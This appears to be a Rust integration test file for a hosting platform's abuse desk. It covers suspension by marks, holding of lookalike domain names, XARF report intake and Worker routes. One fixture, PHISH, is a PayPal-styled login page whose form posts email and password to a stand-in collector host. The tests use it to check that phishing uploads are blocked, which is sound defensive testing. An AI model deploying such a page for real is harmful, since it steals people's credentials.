//! The abuse desk as the world meets it: reports, what is held back, and what the operator stops by any mark.

use std::time::{Duration, Instant};

use axum::body::Body;
use base64::Engine as _;
use http::{Method, Request, StatusCode};
use serde_json::{Value, json};
use slipway::abuse::store::{review_clear, reviews};
use slipway_accounts::suspension::{Mark, lift, marked, suspend};
use tower::ServiceExt as _;

use super::support::{ESM, World, multipart, order};

const HELLO: &str = "export default { fetch() { return new Response('hello') } }";

#[tokio::test(flavor = "multi_thread")]
async fn what_bears_a_mark_is_found_stopped_and_let_go_on_in_one_act() {
    let Some(world) = World::start().await else { return };
    let customer = world.customer("ada").await;
    let mut plan = order("workers:free", json!({}), "agt_a");
    plan.agent.as_mut().unwrap().grant = Some("grt_ada".to_owned());
    world.create(&customer, &plan, "plan").await.unwrap();
    let workers = world.workers(&customer, "agt_a").await;
    world.domain(&customer, "quiet-harbour.test", "agt_a").await;
    assert!(world.upload(&workers, "shop", HELLO).await.0.is_success());
    let path = format!("/accounts/{}/workers/scripts/shop/domains/records", workers.account);
    let origins = json!({"origins": [{"hostname": "quiet-harbour.test"}]});
    assert!(world.api(&workers.token, Method::PUT, &path, Some(origins)).await.0.is_success());
    assert_eq!(world.visit("quiet-harbour.test").await.0, 200);

    let orchestrator = world.stub.attestor().issuer.to_string();
    let found = by(&world, &format!("orchestrator={orchestrator}")).await;
    for what in ["account", "token", "registrar:domain"] {
        assert!(found.iter().any(|one| one == what), "no {what} in {found:?}");
    }
    assert!(by(&world, "grant=grt_ada").await.contains(&"workers:free".to_owned()));

    let scripts = format!("/accounts/{}/workers/scripts", workers.account);
    for (mark, dark) in [("agent=agt_a".to_owned(), false), (format!("orchestrator={orchestrator}"), true)] {
        let stop = stop(&world, &mark).await;
        let (status, said) = world.api(&workers.token, Method::GET, &scripts, None).await;
        assert!(!status.is_success(), "{mark}: {said}");
        if dark {
            await_visit(&world, "quiet-harbour.test", 403).await;
            let asked = world.quote(&customer, "registrar:domain", json!({"domain": "still-harbour.test"})).await;
            assert_eq!(asked.unwrap_err().code, "suspended");
            let rotated =
                world.client.resource_rotate(&customer.access, &workers.resource.parse().unwrap(), &"rotate".parse().unwrap()).await;
            assert!(rotated.is_err(), "a suspended orchestrator got a new token");
        }
        assert_eq!(world.visit("quiet-harbour.test").await.0, if dark { 403 } else { 200 }, "{mark}");
        let now = world.cloud.env.now();
        assert!(world.cloud.db.write(move |tx| lift(tx, &stop, now)).await.unwrap());
        assert!(world.api(&workers.token, Method::GET, &scripts, None).await.0.is_success(), "{mark} was lifted");
        await_visit(&world, "quiet-harbour.test", 200).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_imitates_another_is_held_until_the_operator_clears_it() {
    let Some(world) = World::start().await else { return };
    let customer = world.customer("ada").await;
    let wanted = json!({"domain": "paypal-login-secure.test"});
    let refused = world.quote(&customer, "registrar:domain", wanted.clone()).await.unwrap_err();
    assert!(refused.code.starts_with("abuse_"), "{refused:?}");
    let held = world.cloud.db.read(reviews).await.unwrap();
    if let Some(first) = held.first() {
        assert!(refused.message.contains(&first.reference), "{refused:?}");
        let again = world.quote(&customer, "registrar:domain", wanted.clone()).await.unwrap_err();
        assert_eq!(again.message, refused.message, "the same is held once");
        let (reference, now) = (first.reference.clone(), world.cloud.env.now());
        assert!(world.cloud.db.write(move |tx| review_clear(tx, &reference, now)).await.unwrap());
        assert!(world.quote(&customer, "registrar:domain", wanted).await.is_ok());
    }
    assert!(world.quote(&customer, "registrar:domain", json!({"domain": "quiet-harbour.test"})).await.is_ok());
}

/// A form that sends a password to somebody else's host.
const PHISH: &str = "<html><head><title>PayPal: log in</title></head><body><form method=post action=https://collect.example/take>\
    <input name=email type=email><input name=password type=password><button>Log in</button></form></body></html>";

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_takes_passwords_is_held_by_whichever_way_it_comes() {
    let Some(world) = World::start().await else { return };
    let customer = world.customer("eve").await;
    let workers = world.workers(&customer, "agt_e").await;
    let code = format!("export default {{ fetch() {{ return new Response(`{PHISH}`) }} }}");
    let held = |(status, said): (StatusCode, Value), way: &str| {
        assert_eq!((status, &said["errors"][0]["code"]), (StatusCode::FORBIDDEN, &json!(10_021)), "{way}: {said}");
    };
    held(world.upload(&workers, "site", &code).await, "as a Worker");
    // a harmless Worker first, other code for it afterwards
    assert!(world.upload(&workers, "site", HELLO).await.0.is_success());
    let metadata = json!({"main_module": "index.js"}).to_string();
    let (kind, form) = multipart(&[("metadata", None, metadata.as_bytes()), ("index.js", Some(ESM), code.as_bytes())]);
    let path = format!("/accounts/{}/workers/scripts/site/content", workers.account);
    held(world.api_raw(&workers.token, Method::PUT, &path, &kind, form).await, "as other content");
    let hash = "0123456789abcdef0123456789abcdef";
    let manifest = json!({"manifest": {"/index.html": {"hash": hash, "size": PHISH.len()}}});
    let path = format!("/accounts/{}/workers/scripts/site/assets-upload-session", workers.account);
    let (_, session) = world.api(&workers.token, Method::POST, &path, Some(manifest)).await;
    let encoded = base64::engine::general_purpose::STANDARD.encode(PHISH);
    let (kind, form) = multipart(&[(hash, Some("text/html"), encoded.as_bytes())]);
    let path = format!("/accounts/{}/workers/assets/upload?base64=true", workers.account);
    let session = session["result"]["jwt"].as_str().unwrap().to_owned();
    held(world.api_raw(&session, Method::POST, &path, &kind, form.clone()).await, "as a static file");
    // the operator looked at the file and found nothing wrong with it
    let held = world.cloud.db.read(reviews).await.unwrap();
    let (file, now) = (held.iter().find(|review| review.what == "asset").unwrap().reference.clone(), world.cloud.env.now());
    assert!(world.cloud.db.write(move |tx| review_clear(tx, &file, now)).await.unwrap());
    assert_eq!(world.api_raw(&session, Method::POST, &path, &kind, form).await.0, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_gets_a_reference_once_and_its_words_are_sealed() {
    let Some(world) = World::start().await else { return };
    let report = |id: u32| {
        json!({
            "xarf_version": "4.0.0", "report_id": format!("550e8400-e29b-41d4-a716-{id:012}"), "timestamp": "2026-11-23T12:00:00Z",
            "reporter": {"org": "CERT", "contact": "witness@cert.test", "domain": "cert.test"}, "source_identifier": "192.0.2.7",
            "category": "content", "type": "phishing", "url": "https://shop.test/login"
        })
    };
    let (status, first) = send(&world, &report(1)).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(send(&world, &report(1)).await.1["reference"], first["reference"]);
    assert_ne!(send(&world, &report(2)).await.1["reference"], first["reference"]);
    assert_eq!(send(&world, &json!({"url": "https://shop.test/"})).await.0, StatusCode::BAD_REQUEST);
    let bytes = std::fs::read(world.folder.path().join("slipway.db-wal")).unwrap_or_default();
    assert!(bytes.windows(7).all(|w| w != b"witness"), "a reporter's address is in the database in the clear");
    let mut last = StatusCode::ACCEPTED;
    for id in 3..60 {
        last = send(&world, &report(id)).await.0;
        if last != StatusCode::ACCEPTED {
            break;
        }
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_route_by_pattern_leads_a_host_of_the_accounts_zone_to_its_worker() {
    let Some(world) = World::start().await else { return };
    let customer = world.customer("ada").await;
    let workers = world.workers(&customer, "agt_a").await;
    world.domain(&customer, "quiet-harbour.test", "agt_a").await;
    assert!(world.upload(&workers, "shop", HELLO).await.0.is_success());
    let (_, zones) = world.api(&workers.token, Method::GET, "/zones?name=quiet-harbour.test", None).await;
    let routes = format!("/zones/{}/workers/routes", zones["result"][0]["id"].as_str().unwrap());
    let (status, made) =
        world.api(&workers.token, Method::POST, &routes, Some(json!({"pattern": "*.quiet-harbour.test/*", "script": "shop"}))).await;
    assert!(status.is_success(), "{made}");
    assert_eq!(world.visit("www.quiet-harbour.test").await, (200, "hello".to_owned()));
    let (status, twice) = world.api(&workers.token, Method::POST, &routes, Some(json!({"pattern": "*.quiet-harbour.test/*"}))).await;
    assert_eq!((status, &twice["errors"][0]["code"]), (StatusCode::CONFLICT, &json!(10_020)));
    for (pattern, script) in [("*.other.test/*", "shop"), ("a.*.quiet-harbour.test/", "shop"), ("www.quiet-harbour.test/*", "nobody")] {
        let (status, said) = world.api(&workers.token, Method::POST, &routes, Some(json!({"pattern": pattern, "script": script}))).await;
        assert!(!status.is_success(), "`{pattern}` to `{script}` was taken: {said}");
    }
    let put = format!("/accounts/{}/workers/scripts/shop/routes", workers.account);
    let wanted = json!([{"pattern": "quiet-harbour.test/*", "zone_name": "quiet-harbour.test"}]);
    assert!(world.api(&workers.token, Method::PUT, &put, Some(wanted)).await.0.is_success());
    assert_eq!((world.visit("quiet-harbour.test").await.0, world.visit("www.quiet-harbour.test").await.0), (200, 404), "replaced");
    let (_, listed) = world.api(&workers.token, Method::GET, &routes, None).await;
    let one = format!("{routes}/{}", listed["result"][0]["id"].as_str().unwrap());
    assert!(world.api(&workers.token, Method::DELETE, &one, None).await.0.is_success());
    assert_eq!(world.visit("quiet-harbour.test").await.0, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_zones_routes_end_with_it_and_do_not_come_back_with_the_name() {
    let Some(world) = World::start().await else { return };
    let customer = world.customer("ada").await;
    let workers = world.workers(&customer, "agt_a").await;
    let bought = world.domain(&customer, "quiet-harbour.test", "agt_a").await.id.unwrap();
    assert!(world.upload(&workers, "shop", HELLO).await.0.is_success());
    let put = format!("/accounts/{}/workers/scripts/shop/routes", workers.account);
    let wanted = json!([{"pattern": "quiet-harbour.test/*", "zone_name": "quiet-harbour.test"}]);
    assert!(world.api(&workers.token, Method::PUT, &put, Some(wanted)).await.0.is_success());
    assert_eq!(world.visit("quiet-harbour.test").await.0, 200);
    world.client.resource_remove(&customer.access, &bought, &"r1".parse().unwrap()).await.unwrap();
    assert_eq!(world.visit("quiet-harbour.test").await.0, 404, "a route outlived its zone");
    let quote = world.quote(&customer, "registrar:domain", json!({"domain": "quiet-harbour.test"})).await.unwrap();
    let mut again = order("registrar:domain", json!({"domain": "quiet-harbour.test"}), "agt_a");
    again.quote_id = Some(quote.id);
    world.create(&customer, &again, "again").await.unwrap();
    assert_eq!(world.visit("quiet-harbour.test").await.0, 404, "a route came back");
}

/// What bears a mark, by kind.
async fn by(world: &World, mark: &str) -> Vec<String> {
    let mark: Mark = mark.parse().unwrap();
    world.cloud.db.read(move |tx| marked(tx, &mark)).await.unwrap().into_iter().map(|one| one.what).collect()
}

async fn stop(world: &World, mark: &str) -> String {
    let (env, mark): (_, Mark) = (world.cloud.env.clone(), mark.parse().unwrap());
    world.cloud.db.write(move |tx| suspend(tx, &env, &mark, "phishing")).await.unwrap().id
}

async fn await_visit(world: &World, host: &str, status: u16) {
    let until = Instant::now() + Duration::from_secs(10);
    while world.visit(host).await.0 != status {
        assert!(Instant::now() < until, "`{host}` does not answer {status}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn send(world: &World, report: &Value) -> (StatusCode, Value) {
    let request = Request::post("/abuse").header("content-type", "application/json").body(Body::from(report.to_string())).unwrap();
    let response = world.app.clone().oneshot(request).await.unwrap();
    let status = response.status();
    let body = axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap();
    (status, serde_json::from_slice(&body).unwrap_or_default())
}
